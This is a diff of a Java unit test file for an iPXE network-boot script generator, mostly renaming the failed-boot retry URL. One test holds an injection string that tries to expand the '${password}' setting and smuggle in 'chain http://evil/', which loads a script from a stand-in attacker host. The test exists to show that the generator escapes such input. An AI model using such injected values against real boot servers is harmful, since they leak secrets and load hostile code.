@@ -20,7 +20,8 @@ import org.netroot.server.api.MenuBoot;
 
 /** The scripts each plan becomes: what iPXE runs, line by line. */
 class IpxeScriptTest {
-    private static final String SELF = "http://198.18.0.1/boot/52:54:00:00:00:01.ipxe";
+    /** Where a failed script tries again: not the script URL itself, which an install counts as a boot. */
+    private static final String RETRY = "http://198.18.0.1/boot/52:54:00:00:00:01/retry.ipxe";
     private static final String ROOT = "iscsi:198.18.0.1::::iqn.2026-01.org.netroot:pc1";
 
     /** One expectation per mode: a mode added without one fails here. */
@@ -51,7 +52,7 @@ class IpxeScriptTest {
         assertTrue(s.contains("\nset initiator-iqn iqn.2026-01.org.netroot:initiator:pc1\n"), s);
         assertFalse(s.contains("password"), "no CHAP without a secret: " + s);
         assertTrue(s.contains("\n:failed\n"), s);
-        assertTrue(s.contains("\nsleep 10\nchain --replace " + SELF + "\n"), "a failed boot retries: " + s);
+        assertTrue(s.contains("\nsleep 10\nchain --replace " + RETRY + "\n"), "a failed boot retries: " + s);
     }
 
     @Test
@@ -96,7 +97,7 @@ class IpxeScriptTest {
     void afterTheInstallerRanTheVolumeBootsFirstAndTheInstallerOnlyIfItDoesNot() {
         Client c = client(BootMode.INSTALL);
         BootPlan plan = BootFixtures.planner(c, AssetCatalog.of(BootFixtures.LIBRARY), x -> true).plan(REQUEST);
-        String s = IpxeScript.write(plan, "pc1", SELF);
+        String s = IpxeScript.write(plan, "pc1", RETRY);
         assertTrue(s.contains("\nsanboot --drive 0x80 " + ROOT + " || goto installer\n:installer\n"), s);
         assertTrue(s.contains("\nchain --replace http://198.18.0.1/boot/52:54:00:00:00:01/installer.ipxe || goto failed\n"), s);
         assertFalse(s.contains("debian.iso"), "the installer comes from its own URL, if at all: " + s);
@@ -155,15 +156,15 @@ class IpxeScriptTest {
 
     @Test
     void anUnknownMachineIsToldOnScreenHowToAddItAndRetries() {
-        String s = IpxeScript.write(BootPlanner.none().plan(REQUEST), null, SELF);
+        String s = IpxeScript.write(BootPlanner.none().plan(REQUEST), null, RETRY);
         assertTrue(s.startsWith("#!ipxe\n"));
         assertTrue(s.contains("netroot client add NAME --mac 52:54:00:00:00:01"), s);
-        assertTrue(s.contains("\nsleep 10\nchain --replace " + SELF + "\n"), s);
+        assertTrue(s.contains("\nsleep 10\nchain --replace " + RETRY + "\n"), s);
     }
 
     @Test
     void screenTextCannotExpandIpxeSettingsOrStartANewCommand() {
-        String s = IpxeScript.write(new BootPlan.NotReady(List.of("${password} leaks\nchain http://evil/")), "pc1", SELF);
+        String s = IpxeScript.write(new BootPlan.NotReady(List.of("${password} leaks\nchain http://evil/")), "pc1", RETRY);
         assertTrue(s.contains("\necho Netroot: [password] leaks chain http://evil/\n"), s);
         assertScriptIsClean(s);
     }
